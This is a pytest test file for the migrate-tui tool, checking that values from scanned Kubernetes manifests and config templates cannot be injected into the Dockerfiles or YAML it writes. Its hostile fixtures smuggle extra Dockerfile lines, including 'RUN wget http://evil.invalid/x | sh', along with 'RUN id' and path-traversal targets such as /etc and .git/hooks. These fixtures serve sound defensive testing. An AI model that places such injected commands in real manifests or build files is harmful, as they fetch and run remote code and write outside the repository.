"""Issue 11, item 1: nothing from a scanned manifest is injected into a Dockerfile or YAML we write.

The hostile manifests are built here; each test runs the real engine and asserts the bytes it
plans and writes, and that our Dockerfile parser reads back exactly the intended instructions.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from migrate_tui.repo.config import Config, ConfigError, config_from_table
from migrate_tui.pipeline.engine import Engine
from migrate_tui.repo.safepath import PathRefusal, describe, dockerfile_word
from migrate_tui.platform.target import parse_target
from migrate_tui.write.writer import WriteRefusal
from migrate_tui.parse.dockerfile.parser import parse_dockerfile

IMAGE = "registry.example.com/web-site:1.4.2"


def _manifest(copy_source: str, image: str = IMAGE) -> str:
    command = json.dumps(["sh", "-c", f"cp -r {copy_source} /usr/share/nginx/html/"])
    return f"""apiVersion: apps/v1
kind: Deployment
metadata: {{name: web}}
spec:
  selector: {{matchLabels: {{app: web}}}}
  template:
    metadata: {{labels: {{app: web}}}}
    spec:
      initContainers:
      - name: copy-site
        image: {json.dumps(image)}
        command: {command}
        volumeMounts: [{{name: html, mountPath: /usr/share/nginx/html}}]
      containers:
      - name: nginx
        image: nginx:1.27
        volumeMounts: [{{name: html, mountPath: /usr/share/nginx/html, readOnly: true}}]
      volumes:
      - name: html
        emptyDir: {{}}
"""


def _engine(root: Path, mode: str, template: str = "{image}-assets:{tag}") -> Engine:
    config = Config(select=("IV001",), target=parse_target("k8s=1.36,containerd=2.2"), image_name_template=template)
    return Engine(root, config, mode=mode)


def _repo(tmp_path: Path, manifest: str) -> Path:
    root = tmp_path / "repo"
    root.mkdir()
    (root / "web.yaml").write_text(manifest)
    return root


def _files(root: Path) -> list[str]:
    return sorted(p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file())


INJECTED = "'/site\nFROM busybox AS x\nRUN wget http://evil.invalid/x | sh\nFROM scratch\nCOPY --from=x /'"


def test_a_newline_in_a_copy_source_never_reaches_the_asset_dockerfile(tmp_path: Path) -> None:
    root = _repo(tmp_path, _manifest(INJECTED))
    before = (root / "web.yaml").read_bytes()
    result = _engine(root, "scratch").scan()
    [finding] = result.findings
    planned = [e.content for e in (finding.fix.edits if finding.fix else ()) if "Dockerfile" in e.path]
    assert planned == []
    assert finding.fix is None
    assert describe(PathRefusal.CONTROL) in (finding.fix_blocked or "")
    report, _ = _engine(root, "scratch").fix()
    assert report.written == []
    assert _files(root) == ["web.yaml"]
    assert (root / "web.yaml").read_bytes() == before


def test_a_newline_in_a_copy_source_is_not_written_into_yaml_either(tmp_path: Path) -> None:
    # zero-rebuild mode would write the path as a subPath: refused while the fix is planned
    # (the writer would refuse it too; nothing reaches it)
    root = _repo(tmp_path, _manifest(INJECTED))
    before = (root / "web.yaml").read_bytes()
    engine = _engine(root, "zero-rebuild")
    result = engine.scan()
    [finding] = result.findings
    assert finding.fix is None
    assert "holds control characters; migrate-tui never writes them" in (finding.fix_blocked or "")
    report = engine.apply(result.findings, sources=result.sources, unsafe=True)
    assert report.written == [] and report.refused == []
    assert (root / "web.yaml").read_bytes() == before


def test_a_space_in_a_copy_source_uses_the_json_form_and_reads_back_exactly(tmp_path: Path) -> None:
    root = _repo(tmp_path, _manifest("'/my site/.'"))
    report, _ = _engine(root, "scratch").fix()
    assert sorted(report.written) == ["assets/web-site/Dockerfile", "web.yaml"]
    text = (root / "assets/web-site/Dockerfile").read_text()
    assert text == (
        f"# Asset image for {IMAGE}: only the files its init container copied, no shell.\n"
        f"# Build and push it as registry.example.com/web-site-assets:1.4.2 (e.g. `buildah bud -f assets/web-site/Dockerfile "
        f"-t registry.example.com/web-site-assets:1.4.2 .`).\n"
        f"FROM {IMAGE} AS source\n"
        "\n"
        "FROM scratch\n"
        'COPY --from=source ["/my site/", "/my site/"]\n'
    )
    parsed = parse_dockerfile(text)
    assert parsed.errors == []
    assert [(i.keyword, i.json_args) for i in parsed.instructions] == [("FROM", None), ("FROM", None), ("COPY", ("/my site/", "/my site/"))]
    assert [s.base for s in parsed.stages] == [IMAGE, "scratch"]
    assert parsed.instructions[-1].flag("from").value == "source"


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("/site\nFROM busybox", PathRefusal.CONTROL),
        ("/site\x1b[2J", PathRefusal.CONTROL),
        ("/site\u2028x", PathRefusal.CONTROL),
        ("/site$HOME", PathRefusal.SPECIAL),
        ("/site${X:-/}", PathRefusal.SPECIAL),
        ("/site\\n", PathRefusal.SPECIAL),
        ("/site*", PathRefusal.SPECIAL),
        ("/it's", PathRefusal.SPECIAL),
        ('/a"b', PathRefusal.SPECIAL),
    ],
)
def test_dockerfile_words_that_a_builder_would_reinterpret_are_refused(path: str, kind: PathRefusal) -> None:
    assert dockerfile_word(path) is kind


@pytest.mark.parametrize(
    ("path", "word"),
    [("/site/", "/site/"), ("/my site/", '"/my site/"'), ("/café/", '"/café/"'), ("/a#b", '"/a#b"'), ("--from=x", '"--from=x"')],
)
def test_plain_and_quoted_dockerfile_words(path: str, word: str) -> None:
    assert dockerfile_word(path) == word


@pytest.mark.parametrize(
    ("image", "kind"),
    [
        (f"{IMAGE}\nRUN wget http://evil.invalid | sh\nFROM scratch", WriteRefusal.CONTROL_CHARACTERS),
        (f"{IMAGE} ", WriteRefusal.INVALID_REFERENCE),
    ],
)
def test_a_hostile_init_image_never_reaches_a_dockerfile_or_a_reference(tmp_path: Path, image: str, kind: WriteRefusal) -> None:
    root = _repo(tmp_path, _manifest("/site/.", image=image))
    before = (root / "web.yaml").read_bytes()
    # scratch mode: refused while planning, no Dockerfile is planned
    [finding] = _engine(root, "scratch", template="registry.example.com/assets:v1").scan().findings
    assert finding.fix is None
    assert "is not a valid image reference" in (finding.fix_blocked or "")
    # zero-rebuild mode would reference the image as it is: refused while planning too
    engine = _engine(root, "zero-rebuild", template="registry.example.com/assets:v1")
    result = engine.scan()
    [finding] = result.findings
    assert finding.fix is None
    assert f"the image volume would reference {json.dumps(image)}, which is not a valid image reference" in (finding.fix_blocked or "")
    assert kind in (WriteRefusal.CONTROL_CHARACTERS, WriteRefusal.INVALID_REFERENCE)  # what the writer would have said
    report = engine.apply(result.findings, sources=result.sources, unsafe=True)
    assert report.written == [] and report.refused == []
    assert _files(root) == ["web.yaml"]
    assert (root / "web.yaml").read_bytes() == before


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("image-name-template", "registry.example.com/x:{tag}\nRUN id"),
        ("image-name-template", "{image}-assets:{tag} "),
        ("image-name-template", "{image}-assets:{nope}"),
        ("image-name-template", "{image}-Assets$X:{tag}"),
        ("asset-dockerfile-path", "../outside/{name}/Dockerfile"),
        ("asset-dockerfile-path", "/etc/{name}/Dockerfile"),
        ("asset-dockerfile-path", ".git/hooks/{name}"),
        ("asset-dockerfile-path", "assets/{name}/Docker\nfile"),
        ("asset-dockerfile-path", "assets/{other}/Dockerfile"),
    ],
)
def test_config_templates_that_could_write_anything_are_rejected(key: str, value: str) -> None:
    with pytest.raises(ConfigError) as err:
        config_from_table({key: value}, "pyproject.toml")
    assert str(err.value).startswith(f"pyproject.toml: '{key}'")


def test_default_and_ordinary_templates_are_accepted() -> None:
    config = config_from_table(
        {"image-name-template": "ghcr.io/acme/{name}-assets:{tag}", "asset-dockerfile-path": "build/assets/{name}.Dockerfile"}, "t"
    )
    assert config.image_name_template == "ghcr.io/acme/{name}-assets:{tag}"
    assert config.asset_dockerfile_path == "build/assets/{name}.Dockerfile"


def _layer_names(layout: Path) -> set[str]:
    import tarfile

    names: set[str] = set()
    for blob in (layout / "blobs" / "sha256").iterdir():
        try:
            with tarfile.open(blob) as tar:
                names |= {m.name.rstrip("/") for m in tar.getmembers()}
        except tarfile.TarError:
            continue  # a manifest or config blob
    return names


def test_the_quoted_asset_dockerfile_builds_the_path_with_a_space(tmp_path: Path, capsys) -> None:
    """Our builder (and buildah, when installed) read the JSON form as one path with a space."""
    import shutil
    import subprocess

    from migrate_tui.cli import main
    from migrate_tui.oci.build import build

    context = tmp_path / "ctx"
    (context / "my site").mkdir(parents=True)
    (context / "my site" / "index.html").write_text("hi\n")
    (context / "Dockerfile").write_text('FROM scratch\nCOPY ["my site/", "/my site/"]\n')
    build(context / "Dockerfile", context, tag="1", output=tmp_path / "oci-src")
    root = _repo(tmp_path, _manifest("'/my site/.'"))
    _engine(root, "scratch").fix()
    dockerfile = root / "assets/web-site/Dockerfile"
    new_ref = "registry.example.com/web-site-assets:1.4.2"
    assert (
        main(
            [
                "build",
                str(root),
                "-f",
                str(dockerfile),
                "-t",
                new_ref,
                "-o",
                str(tmp_path / "oci-asset"),
                "--image",
                f"{IMAGE}=oci:{tmp_path / 'oci-src'}:1",
            ]
        )
        == 0
    )
    capsys.readouterr()
    assert _layer_names(tmp_path / "oci-asset") == {"my site", "my site/index.html"}
    buildah = shutil.which("buildah")
    if buildah is None:
        return
    flags = [buildah, "--root", str(tmp_path / "r"), "--runroot", str(tmp_path / "rr"), "--storage-driver", "vfs"]
    for args in (
        ["bud", "--isolation", "chroot", "--pull=never", "-t", IMAGE, str(context)],
        ["bud", "--isolation", "chroot", "--pull=never", "-t", new_ref, "-f", str(dockerfile), str(root)],
        ["push", new_ref, f"oci:{tmp_path / 'oci-buildah'}:1"],
    ):
        done = subprocess.run(flags + args, capture_output=True, text=True, timeout=300)
        assert done.returncode == 0, done.stderr
    assert _layer_names(tmp_path / "oci-buildah") == {"my site", "my site/index.html"}


@pytest.mark.parametrize("path", ["../../etc/Dockerfile", "/etc/Dockerfile", ".git/Dockerfile", "a\nb/Dockerfile"])
def test_an_images_table_pointing_out_of_the_repository_is_rejected(path: str) -> None:
    with pytest.raises(ConfigError) as err:
        config_from_table({"images": {"registry.example.com/web": path}}, "pyproject.toml")
    assert str(err.value).startswith("pyproject.toml: images.registry.example.com/web = ")
    assert config_from_table({"images": {"web": "docker/web/Dockerfile"}}, "t").images == (("web", "docker/web/Dockerfile"),)
